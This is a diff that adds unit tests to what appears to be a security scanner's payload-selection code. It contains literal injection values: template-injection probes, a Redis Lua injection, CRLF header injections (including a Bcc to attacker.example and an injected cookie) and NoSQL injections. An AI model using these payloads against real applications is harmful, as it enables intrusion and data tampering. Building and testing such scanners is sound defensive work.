@@ -71,6 +71,24 @@ it('starts a program by its path where no shell is involved', () => {
   expect(fitPayload(spawned, 'command-injection')?.value).toBe('/usr/bin/id');
 });
 
+it.each([
+  ['template-injection', 'mako.template.Template', 'app.py', '@', '\u0024{7*7}'],
+  ['template-injection', 'erb', 'app.rb', '@', '<%= 7*7 %>'],
+  ['template-injection', 'jinja2.Template', 'app.py', '@', '{{7*7}}'],
+  ['code-injection', '<redis.Redis>.eval', 'app.py', "get('@')", "' .. redis.call('INFO') .. '"],
+  ['header-injection', 'smtplib.SMTP().sendmail', 'app.py', '@', 'x\r\nBcc: someone@attacker.example'],
+  ['header-injection', '<flask.Response>.headers.set', 'app.py', '@', 'x\r\nSet-Cookie: injected=1'],
+])('%s of %s is written in the language it is read in', (category, sinkApi, file, text, value) => {
+  expect(fitPayload(candidate({ sinkApi, file, shape: shape(text) }), category)?.value).toBe(value);
+});
+
+it('puts JavaScript into code that MongoDB runs, and an operator into a query', () => {
+  const given = { sinkApi: '$where', shape: shape("this.name == '@'") };
+  const code = candidate({ ...given, ruleId: 'code/mongo-code-injection' });
+  expect(fitPayload(code, 'nosql-injection')?.value).toBe("' || '1'=='1");
+  expect(fitPayload(candidate(given), 'nosql-injection')?.value).toBe('{"$ne":null}');
+});
+
 it('runs code of a page in the browser', () => {
   const source = { kind: 'dom-location', expression: 'location.hash' };
   expect(fitPayload(candidate({ source, shape: shape('@') }), 'code-injection')?.value).toBe(
